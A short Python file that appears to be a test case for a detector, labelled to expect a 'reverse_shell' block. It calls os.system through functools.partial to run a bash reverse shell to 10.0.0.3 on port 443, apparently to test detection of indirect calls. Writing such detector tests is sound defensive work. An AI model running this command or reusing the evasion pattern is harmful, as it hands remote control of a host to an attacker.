# expect: BLOCKED reverse_shell
import functools
import os
launch = functools.partial(os.system, "bash -i >& /dev/tcp/10.0.0.3/443 0>&1")
launch()
